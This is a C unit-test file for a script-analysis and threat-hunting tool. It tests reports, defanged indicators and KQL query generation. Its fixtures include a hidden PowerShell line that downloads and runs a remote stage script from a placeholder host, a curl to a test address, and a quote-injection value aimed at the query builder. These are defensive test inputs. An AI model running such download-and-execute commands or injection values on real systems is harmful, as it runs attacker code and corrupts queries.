/* test-script.c
 *
 * Scripts through the session: reports, judgements, kept indicators.
 *
 * SPDX-License-Identifier: MIT
 */
#include "config.h"

#include <glib/gstdio.h>
#include <string.h>

#include "session-fixture.h"
#include "vdt-error.h"
#include "vdt-kql-analysis.h"
#include "vdt-session-changes.h"
#include "vdt-session-kept.h"
#include "vdt-session-script.h"

static const char plain[] =
  "powershell -NoProfile -WindowStyle Hidden -Command \"IEX (New-Object Net.WebClient)"
  ".DownloadString('http://files.example.net/' + 'stage' + '.ps1')\"\r\n";

static VdtScriptReport *
analyse (Fixture    *f,
         const char *text,
         gssize      length)
{
  g_autoptr(GError) error = NULL;
  VdtScriptReport *report;

  g_clear_object (&f->result);
  vdt_session_analyse_script_async (f->session, text, length, NULL, fixture_done_cb, f);
  report = vdt_session_analyse_script_finish (f->session, fixture_wait (f), &error);
  g_assert_no_error (error);
  g_assert_nonnull (report);

  return report;
}

/* What a finding marks in a layer's shown text. */
static char *
marked (VdtScriptReport  *report,
        VdtReportFinding *finding,
        guint             index)
{
  g_autoptr(VdtReportLayer) layer = g_list_model_get_item (vdt_script_report_get_layers (report), index);
  guint start, length;

  if (!vdt_report_finding_find_place (finding, index, &start, &length))
    return NULL;

  return g_utf8_substring (vdt_report_layer_get_text (layer), start, start + length);
}

static void
test_report (Fixture       *f,
             gconstpointer  data)
{
  g_autoptr(VdtScriptReport) report = analyse (f, plain, -1);
  GListModel *findings = vdt_script_report_get_findings (report);
  g_autoptr(VdtReportLayer) first = g_list_model_get_item (vdt_script_report_get_layers (report), 0);

  g_assert_cmpstr (vdt_script_report_get_language (report), !=, "unknown");
  g_assert_cmpuint (strlen (vdt_script_report_get_sha256 (report)), ==, 64);
  g_assert_nonnull (strstr (vdt_script_report_get_output (report), "stage.ps1"));
  /* A Windows line end is no hidden character. */
  g_assert_null (strstr (vdt_report_layer_get_text (first), "␍"));
  g_assert_cmpuint (g_list_model_get_n_items (findings), >, 0);
  for (guint i = 0; i < g_list_model_get_n_items (findings); i++)
    {
      g_autoptr(VdtReportFinding) finding = g_list_model_get_item (findings, i);
      g_autofree char *in_layer = marked (report, finding, vdt_report_finding_get_layer (finding));
      g_autofree char *in_original = marked (report, finding, 0);

      g_assert_cmpuint (vdt_report_finding_get_number (finding), ==, i + 1);
      g_assert_cmpuint (vdt_report_finding_get_line (finding), >=, 1);
      /* It lights up where it is, and in the script itself. */
      g_assert_cmpstr (in_layer, !=, NULL);
      g_assert_cmpstr (in_layer, !=, "");
      g_assert_cmpstr (in_original, !=, NULL);
      g_assert_cmpstr (in_original, !=, "");
    }
}

static void
test_citations (Fixture       *f,
                gconstpointer  data)
{
  g_autoptr(VdtScriptReport) report = analyse (f, plain, -1);
  GListModel *explanation = vdt_script_report_get_explanation (report);
  guint n = g_list_model_get_n_items (vdt_script_report_get_findings (report));
  g_autofree char *text = vdt_session_export_script (f->session, report);
  guint n_citations = 0;

  g_assert_cmpuint (g_list_model_get_n_items (explanation), >, 0);
  for (guint i = 0; i < g_list_model_get_n_items (explanation); i++)
    {
      g_autoptr(VdtStatement) statement = g_list_model_get_item (explanation, i);
      const char * const *ids = vdt_statement_get_fact_ids (statement);

      for (gsize j = 0; ids != NULL && ids[j] != NULL; j++, n_citations++)
        {
          g_assert_cmpuint (g_ascii_strtoull (ids[j], NULL, 10), >=, 1);
          g_assert_cmpuint (g_ascii_strtoull (ids[j], NULL, 10), <=, n);
        }
    }
  g_assert_cmpuint (n_citations, >, 0);
  g_assert_nonnull (strstr (text, vdt_script_report_get_sha256 (report)));
  g_assert_nonnull (strstr (text, "[1]"));
  g_assert_null (strstr (text, "http://files.example.net"));
}

/* Whatever is in a script, what is shown is valid text in which nothing acts. */
static void
test_hostile (Fixture       *f,
              gconstpointer  data)
{
  static const char bytes[] = "echo \xE2\x80\xAE" "hidden\x1b[2J\xff\0 \r<b>&amp;\r\nwhoami";
  g_autoptr(VdtScriptReport) report = analyse (f, bytes, sizeof bytes - 1);
  GListModel *layers = vdt_script_report_get_layers (report);

  for (guint i = 0; i < g_list_model_get_n_items (layers); i++)
    {
      g_autoptr(VdtReportLayer) layer = g_list_model_get_item (layers, i);
      const char *text = vdt_report_layer_get_text (layer);

      g_assert_true (g_utf8_validate (text, -1, NULL));
      g_assert_null (strchr (text, '\x1b'));
      g_assert_null (strchr (text, '\r'));
      g_assert_null (strstr (text, "\xE2\x80\xAE"));
    }
}

static void
test_long (Fixture       *f,
           gconstpointer  data)
{
  g_autofree char *text = g_malloc (300001);
  g_autoptr(VdtScriptReport) report = NULL;
  g_autoptr(VdtReportLayer) layer = NULL;
  g_auto(GStrv) lines = NULL;

  memset (text, 'a', 300000);
  memcpy (text, "echo ", 5);
  text[300000] = '\0';
  report = analyse (f, text, -1);
  layer = g_list_model_get_item (vdt_script_report_get_layers (report), 0);
  g_assert_true (vdt_report_layer_get_folded (layer));
  g_assert_true (vdt_report_layer_get_long (layer));
  lines = g_strsplit (vdt_report_layer_get_text (layer), "\n", -1);
  for (gsize i = 0; lines[i] != NULL; i++)
    g_assert_cmpint (g_utf8_strlen (lines[i], -1), <=, 2001);
}

static void
test_judge (Fixture       *f,
            gconstpointer  data)
{
  g_autoptr(VdtScriptReport) report = analyse (f, plain, -1);
  g_autoptr(VdtReportFinding) finding = g_list_model_get_item (vdt_script_report_get_findings (report), 0);
  g_autoptr(VdtScriptReport) again = NULL;
  g_autoptr(VdtReportFinding) same = NULL;
  g_autoptr(VdtScriptReport) third = NULL;
  g_autoptr(VdtReportFinding) cleared = NULL;

  vdt_session_judge_finding (f->session, report, finding, "not-relevant");
  again = analyse (f, plain, -1);
  same = g_list_model_get_item (vdt_script_report_get_findings (again), 0);
  g_assert_cmpstr (vdt_report_finding_get_judgement (same), ==, "not-relevant");

  vdt_session_judge_finding (f->session, again, same, NULL);
  third = analyse (f, plain, -1);
  cleared = g_list_model_get_item (vdt_script_report_get_findings (third), 0);
  g_assert_null (vdt_report_finding_get_judgement (cleared));
}

static void
test_keep (Fixture       *f,
           gconstpointer  data)
{
  g_autoptr(VdtScriptReport) report = analyse (f, plain, -1);
  GListModel *indicators = vdt_script_report_get_indicators (report);
  g_autoptr(VdtIncident) incident = NULL;
  g_autoptr(VdtChange) change = NULL;
  g_autoptr(VdtChange) none = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *real = vdt_session_export_indicators (f->session, report, FALSE);
  GListModel *kept;
  gboolean found = FALSE;

  g_assert_cmpuint (g_list_model_get_n_items (indicators), >, 0);
  g_assert_nonnull (strstr (real, "http://files.example.net/stage.ps1"));

  g_clear_object (&f->result);
  vdt_session_open_sample_async (f->session, NULL, fixture_done_cb, f);
  g_free (vdt_session_open_sample_finish (f->session, fixture_wait (f), NULL));
  incident = fixture_load (f, "142");
  kept = vdt_incident_get_kept (incident);
  g_assert_cmpuint (g_list_model_get_n_items (kept), ==, 0);

  change = vdt_session_new_keep_indicators (f->session, report, "142");
  g_clear_object (&f->result);
  vdt_session_apply_async (f->session, change, NULL, fixture_done_cb, f);
  vdt_session_apply_finish (f->session, fixture_wait (f), &error);
  g_assert_no_error (error);
  g_assert_cmpuint (g_list_model_get_n_items (kept), ==, g_list_model_get_n_items (indicators));
  for (guint i = 0; i < g_list_model_get_n_items (kept); i++)
    {
      g_autoptr(VdtKept) item = g_list_model_get_item (kept, i);

      g_assert_cmpstr (vdt_kept_get_kind (item), ==, "indicator");
      g_assert_true (vdt_kept_is_intact (item));
      g_assert_nonnull (strstr (vdt_kept_get_source (item), vdt_script_report_get_sha256 (report)));
      if (g_strcmp0 (vdt_kept_get_text (item), "http://files.example.net/stage.ps1") == 0)
        found = strstr (vdt_kept_get_title (item), "hxxp://files[.]example[.]net/stage.ps1") != NULL;
    }
  g_assert_true (found);

  g_clear_object (&f->result);
  vdt_session_undo_async (f->session, NULL, fixture_done_cb, f);
  g_assert_true (vdt_session_undo_finish (f->session, fixture_wait (f), NULL));
  g_assert_cmpuint (g_list_model_get_n_items (kept), ==, 0);

  for (guint i = 0; i < g_list_model_get_n_items (indicators); i++)
    {
      g_autoptr(VdtReportIndicator) indicator = g_list_model_get_item (indicators, i);

      vdt_record_set_flag (indicator, "selected", FALSE);
    }
  none = vdt_session_new_keep_indicators (f->session, report, "142");
  g_assert_null (none);
}

/* Indicators of a text that is no script: each once, defanged, with its line. */
static void
test_find (Fixture       *f,
           gconstpointer  data)
{
  static const char text[] = "Seen on 2026-11-18:\nGET http://203.0.113.9/a.bin from 192.0.2.7\n"
                             "again 203.0.113.9 and nothing else\n";
  g_autoptr(GListModel) found = NULL;
  g_autoptr(GError) error = NULL;
  gboolean url = FALSE;

  g_clear_object (&f->result);
  vdt_session_find_indicators_async (f->session, text, NULL, fixture_done_cb, f);
  found = vdt_session_find_indicators_finish (f->session, fixture_wait (f), &error);
  g_assert_no_error (error);
  g_assert_cmpuint (g_list_model_get_n_items (found), >=, 2);
  for (guint i = 0; i < g_list_model_get_n_items (found); i++)
    {
      g_autoptr(VdtReportIndicator) item = g_list_model_get_item (found, i);

      if (g_strcmp0 (vdt_report_indicator_get_value (item), "http://203.0.113.9/a.bin") != 0)
        continue;
      url = TRUE;
      g_assert_cmpstr (vdt_report_indicator_get_defanged (item), ==, "hxxp://203[.]0[.]113[.]9/a.bin");
      g_assert_cmpuint (vdt_report_indicator_get_line (item), ==, 2);
    }
  g_assert_true (url);

  g_clear_object (&f->result);
  g_clear_object (&found);
  vdt_session_find_indicators_async (f->session, "", NULL, fixture_done_cb, f);
  found = vdt_session_find_indicators_finish (f->session, fixture_wait (f), &error);
  g_assert_no_error (error);
  g_assert_cmpuint (g_list_model_get_n_items (found), ==, 0);
}

static void
test_file (Fixture       *f,
           gconstpointer  data)
{
  g_autofree char *path = g_build_filename (f->folder, "script.ps1", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(VdtScriptReport) report = NULL;
  g_autoptr(VdtScriptReport) same = analyse (f, plain, -1);
  g_autoptr(GError) error = NULL;

  g_clear_object (&f->result);
  vdt_session_analyse_script_file_async (f->session, file, NULL, fixture_done_cb, f);
  g_assert_null (vdt_session_analyse_script_finish (f->session, fixture_wait (f), &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
  g_clear_error (&error);

  g_assert_true (g_file_set_contents (path, plain, -1, NULL));
  g_clear_object (&f->result);
  vdt_session_analyse_script_file_async (f->session, file, NULL, fixture_done_cb, f);
  report = vdt_session_analyse_script_finish (f->session, fixture_wait (f), &error);
  g_assert_no_error (error);
  g_assert_cmpstr (vdt_script_report_get_sha256 (report), ==, vdt_script_report_get_sha256 (same));
  g_remove (path);
}

static void
test_cancel (Fixture       *f,
             gconstpointer  data)
{
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;

  g_clear_object (&f->result);
  vdt_session_analyse_script_async (f->session, plain, -1, cancellable, fixture_done_cb, f);
  g_cancellable_cancel (cancellable);
  g_assert_null (vdt_session_analyse_script_finish (f->session, fixture_wait (f), &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
}

/* Whatever a script says stays inside a literal of the query. */
static void
test_hunt (Fixture       *f,
           gconstpointer  data)
{
  static const char script[] =
    "curl http://198.51.100.7/x\n"
    "New-Item 'HKCU:\\Software\\a\" or true | take 5'\n"
    "Set-Content 'C:\\work\\a\\b.txt' x";
  g_autoptr(VdtScriptReport) report = analyse (f, script, -1);
  g_autoptr(VdtScriptReport) none = analyse (f, "Get-Date", -1);
  g_autofree char *query = vdt_session_new_script_query (f->session, report);
  g_autofree char *no_query = vdt_session_new_script_query (f->session, none);
  g_autoptr(VdtKqlCatalog) catalog = vdt_kql_catalog_new_default ();
  g_autoptr(VdtKqlTree) tree = NULL;
  g_autoptr(VdtKqlAnalysis) analysis = NULL;

  g_assert_null (no_query);
  g_assert_nonnull (query);
  g_test_message ("%s", query);
  g_assert_nonnull (strstr (query, "let addresses = dynamic([\"198.51.100.7\"]);\n"));
  g_assert_nonnull (strstr (query, "(DeviceNetworkEvents | where RemoteIP in (addresses))"));
  g_assert_nonnull (strstr (query, "\"HKEY_CURRENT_USER\\\\Software\\\\a"));
  g_assert_nonnull (strstr (query, "\"C:\\\\work\\\\a\\\\b.txt\""));
  g_assert_null (strstr (query, "a\" or true"));
  g_assert_null (strstr (query, "EmailEvents"));

  tree = vdt_kql_parse (query, -1, NULL);
  analysis = vdt_kql_analyze (tree, catalog, NULL);
  g_assert_true (vdt_kql_analysis_is_ok (analysis));
}

int
main (int   argc,
      char *argv[])
{
  static const struct { const char *path; void (*test) (Fixture *, gconstpointer); } tests[] = {
    { "/session/script/report", test_report },
    { "/session/script/citations", test_citations },
    { "/session/script/hostile", test_hostile },
    { "/session/script/long", test_long },
    { "/session/script/judge", test_judge },
    { "/session/script/keep", test_keep },
    { "/session/script/find", test_find },
    { "/session/script/hunt", test_hunt },
    { "/session/script/file", test_file },
    { "/session/script/cancel", test_cancel },
  };

  g_test_init (&argc, &argv, NULL);
  for (gsize i = 0; i < G_N_ELEMENTS (tests); i++)
    g_test_add (tests[i].path, Fixture, NULL, fixture_set_up, tests[i].test, fixture_tear_down);

  return g_test_run ();
}
